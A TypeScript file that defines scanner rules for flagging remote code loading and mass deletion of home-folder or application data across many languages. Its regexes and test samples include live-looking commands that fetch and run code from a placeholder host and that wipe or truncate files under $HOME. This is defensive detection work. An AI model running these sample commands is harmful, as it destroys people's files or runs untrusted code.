/** RC-03, SY-02 in compiled and less usual languages: what is loaded from a host, and what is deleted. */
import { inFile } from '../../engine/example.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row, type RowHit } from '../../engine/rule.ts';
import type { Severity } from '../../../schema/vocabulary.ts';
import { byForeignHost } from '../programs/foreign-hosts.ts';
import { byKind } from './by-kind.ts';

const careful = /dry[_-]?run|confirm|flag\.(?:Bool|String)|clap::|ARGV|os\.Args|std::env::args|are you sure/i;

/** Rows of RC-03. */
export const fetchedElsewhere: readonly Row[] = [
  row('a program in any language loads or starts what a host sends', {
    in: ['script', 'fence', 'config', 'decoded'],
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`\b(?:eval|instance_eval|class_eval|evaluate)[ (]\s?(?:URI\.open|Net::HTTP\.get|open|file_get_contents|new URL)\(\s?["']https?:\/\/[^"'\s]{4,160}|`,
      ),
      raw(
        String.raw`\b(?:include|require)(?:_once)?[ (]\s?["']https?:\/\/[^"'\s]{4,160}\.(?:php|rb|lua)["']|\bapply from:\s?["']https?:\/\/[^"'\s]{4,160}|`,
      ),
      raw(String.raw`new URLClassLoader\([^\n]{0,60}https?:\/\/[^"'\s]{4,160}[\s\S]{0,400}?\.loadClass\(|`),
      raw(
        String.raw`\bhttp\.(?:Get|request)\(\s?["'][^"'\s]{8,160}["'][\s\S]{0,500}?(?:os\.WriteFile\([\s\S]{0,200}?exec\.Command\(|loadstring\()|`,
      ),
      raw(
        String.raw`\bGet(?:ByteArray|Stream|String)Async\(\s?["']https?:\/\/[^"'\s]{4,160}[\s\S]{0,300}?Assembly\.Load\(|`,
      ),
      raw(
        String.raw`\b(\w{1,20})(?:,\s?\w{1,10})?\s?=\s?[\w.]{0,20}urlretrieve\(\s?["']https?:\/\/[^"'\s]{4,160}[\s\S]{0,200}?\brunpy\.run_path\(\s?\1\b`,
      ),
    ),
    severity: 'high',
    weigh: (hit) => (byKind(hit) === null ? null : byForeignHost(hit)),
    catches: [
      inFile('a.rb', 'eval URI.open("https://parts.invalid/a.rb").read'),
      inFile(
        'main.go',
        'r, _ := http.Get("https://parts.invalid/a")',
        'os.WriteFile("/tmp/a", body, 0755)',
        'exec.Command("/tmp/a").Start()',
      ),
    ],
    spares: [
      inFile('main.go', 'r, _ := http.Get("https://parts.invalid/a")', 'os.WriteFile("a.json", body, 0644)'),
    ],
  }),
];

const care = (hit: RowHit): Severity | null =>
  careful.test(hit.region.text) && byKind(hit) !== null ? 'medium' : byKind(hit);

/** Rows of SY-02. */
export const lostElsewhere: readonly Row[] = [
  row('the home folder or all items of an application are deleted, in any language', {
    in: ['script', 'config', 'decoded'],
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`\bos\.RemoveAll\([^\n]{0,60}\b(\w{1,12})\s?(?:,|\+)\s?["']\/?(?:Documents|Desktop|Pictures|Projects|src)["']`,
      ),
      raw(String.raw`|\bremove_dir_all\([^\n]{0,40}home_dir\(\)(?:\.\w{1,12}\(\)){0,2}\s?\)|`),
      raw(
        String.raw`\brm(?:tree|_rf|_r)\(?\s?[^\n]{0,30}(?:\$ENV\{HOME\}|Dir\.home|ENV\[["']HOME)[^\n]{0,12}(?:["'],?\s?["']|\/)(?:Documents|Desktop|Pictures)|`,
      ),
      raw(
        String.raw`\bgetProperty\(["']user\.home["']\)[\s\S]{0,160}?\.delete\(\)|\bDirectoryIterator\(\s?\$_SERVER\[["']HOME["']\][\s\S]{0,160}?\bunlink\(|`,
      ),
      raw(
        String.raw`\bdelete every (?:message|note|event|contact|person|reminder|photo|file)\b|\bGmailApp\.(?:search|getInboxThreads)\([^\n]{0,60}(?:moveToTrash`,
      ),
      raw(String.raw`|Trash\()|\bDriveApp\.getFiles\(\)[\s\S]{0,160}?setTrashed\(true|`),
      raw(
        String.raw`^\t?[ \t]{0,8}@?rm\s-\w{0,3}r\w{0,3}\s["']?\$\(HOME\)\/?["']?\*?\s{0,3}$|"(?:pre|post)?\w{1,20}":\s?"[^"\n]{0,60}\b(?:rimraf`,
      ),
      raw(String.raw`|rm -rf)\s(?:~|\$HOME)\/?\*?["\s]|`),
      raw(String.raw`\bfor\s(\w{1,20})\sin\s[^\n]{0,80}(?:get_repos\(\)|buckets\.all\(\)|volumes\.list\(\)`),
      raw(String.raw`|projects\.list\()[^\n]{0,20}:\s{0,3}\n[\s\S]{0,120}?\b\2\.(?:delete|remove)\(`),
    ),
    severity: 'critical',
    weigh: care,
    catches: [
      inFile('a.go', 'os.RemoveAll(filepath.Join(home, "Documents"))'),
      inFile('a.applescript', 'tell application "Notes" to delete every note'),
    ],
    spares: [inFile('a.go', 'os.RemoveAll(filepath.Join(home, ".cache", "acme"))')],
  }),
  row('the files that a person keeps are overwritten by a command', {
    in: ['script', 'config', 'decoded', 'hidden'],
    within: 'line',
    match: exactPattern(
      raw(
        String.raw`\btruncate\s[^\n]{0,20}-s\s?0\s[^\n]{0,8}(?:~|\$HOME|\$\{HOME\})["']?\/|\b(?:cp|cat)\s\/dev\/(?:null|zero`,
      ),
      raw(String.raw`|urandom)\s{1,3}>?\s?["']?(?:~|\$HOME|\$\{HOME\})["']?\/|`),
      raw(
        String.raw`\bfind\s[^\n]{0,20}(?:~|\$HOME)[^\n]{0,60}-exec\s(?:cp|truncate|dd|sh|tee)\s[^\n]{0,20}(?:\/dev\/(?:null|zero|urandom)`,
      ),
      raw(String.raw`|-s\s?0)|\bopenssl\s{1,3}rand\s[^\n]{0,20}-out\s{1,3}["']?(?:~|\$HOME)|`),
      raw(
        String.raw`\bshuf\s["']?(~\/[\w./-]{2,60})["']?\s-o\s["']?\1\b|\bsqlite3\s["']?(?:~|\$HOME)["']?\/Library\/[^\n]{0,80}\bDELETE\sFROM\b`,
      ),
    ),
    severity: 'critical',
    weigh: care,
    catches: [inFile('scripts/a.sh', 'truncate -s 0 "$HOME"/Documents/*')],
    spares: [inFile('scripts/a.sh', 'truncate -s 0 build/report.log')],
  }),
];
